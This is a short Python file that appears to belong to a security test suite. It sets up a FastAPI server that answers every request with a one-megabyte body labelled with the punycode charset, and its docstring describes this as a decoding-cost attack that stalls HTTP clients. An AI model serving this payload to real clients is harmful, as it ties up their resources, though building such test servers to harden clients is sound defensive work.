"""Attack: name a codec whose time grows much faster than the body that it decodes."""

from fastapi import FastAPI, Response

from .targets import acted

app = FastAPI()


@app.api_route("/{path:path}", methods=["GET", "POST"])
async def answer(path: str):
    acted("request")
    headers = {"content-type": "text/plain; charset=punycode"}
    return Response(b"a-" + b"z" * 1_000_000, 418, headers)
